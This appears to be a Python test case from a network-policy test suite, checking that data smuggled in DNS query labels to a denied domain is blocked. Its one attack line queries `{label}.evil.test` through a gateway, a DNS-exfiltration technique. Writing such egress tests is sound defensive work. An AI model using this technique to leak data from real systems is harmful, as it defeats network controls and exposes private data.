# SPDX-License-Identifier: Apache-2.0
"""Bytes in the labels of a denied name.

unheard: no server answers behind a plain node
recorded: 4=~policy 6=~policy
"""
from attack import attempt


def way(a):
    a.dns(f'{a.label}.evil.test', to=a.gateway)


attempt(way)
